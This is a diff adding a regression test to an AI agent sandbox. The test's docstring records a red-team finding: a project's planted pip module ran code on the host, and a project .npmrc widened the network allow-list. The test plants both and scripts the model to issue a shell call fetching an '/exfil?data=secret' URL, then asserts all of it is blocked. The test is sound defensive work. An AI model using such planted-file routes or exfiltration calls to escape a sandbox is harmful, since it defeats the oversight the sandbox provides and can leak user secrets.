@@ -238,6 +238,42 @@ def test_pip_install_through_the_proxy_from_the_index_pip_is_configured_with(
     assert "removed volume sandbox-agent-deps-" in removed.stdout, explain(removed)
 
 
+@pytest.mark.parametrize("network", ["pypi", "npm"])
+def test_a_preset_reads_the_persons_configuration_never_the_projects(
+        workdir: Path, model_server: ModelServer, upstream: Upstream, tmp_path: Path,
+        network: str) -> None:
+    """Red-team round 25: run from the project's directory (as `--root .` is), `--network pypi`
+    ran the project's `pip/__main__.py` on the host (`python -m pip` puts the current directory
+    first on its path), and `--network npm` took the project's `.npmrc`: the registry it named,
+    an address on the host's loopback, became an allowed destination."""
+    import shutil
+    import subprocess
+
+    from tests.docker.cli_support import SANDBOX_AGENT, cli_env, model_args
+
+    if network == "npm" and shutil.which("npm") is None:
+        pytest.skip("npm is not installed here: --network npm refuses to start without it")
+    root, marker = workdir / "proj", tmp_path / "ran-on-the-host"
+    (root / "pip").mkdir(parents=True)
+    (root / "pip" / "__init__.py").write_text("")
+    (root / "pip" / "__main__.py").write_text(
+        f"open({str(marker)!r}, 'a').write('ran')\n"
+        f"print(\"global.index-url='http://127.0.0.1:{upstream.port}/simple'\")\n")
+    (root / ".npmrc").write_text(f"registry=http://127.0.0.1:{upstream.port}/\n")
+    model_server.reply(tool_calls=[Call("run_shell_command", {
+        "command": fetch(f"http://127.0.0.1:{upstream.port}/exfil?data=secret")})])
+    model_server.reply(content="fetched")
+    done = subprocess.run(
+        [str(SANDBOX_AGENT), "ask", "--root", ".", *model_args(model_server, "ollama"), "--yes",
+         "--no-stream", "--network", network, "fetch it"], cwd=root, env=cli_env(),
+        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, explain(done)
+    assert not marker.exists(), explain(done)
+    assert upstream.paths == [], explain(done)
+    ((_, _, output),) = tool_exchanges(model_server.last_chat)
+    assert "STATUS 200" not in output, output
+
+
 def test_at_a_terminal_a_host_no_rule_allows_is_asked_inert(
         workdir: Path, model_server: ModelServer, upstream: Upstream) -> None:
     """y/n/a, like every other prompt: `a` holds for the session, `n` is a 403 for the model;
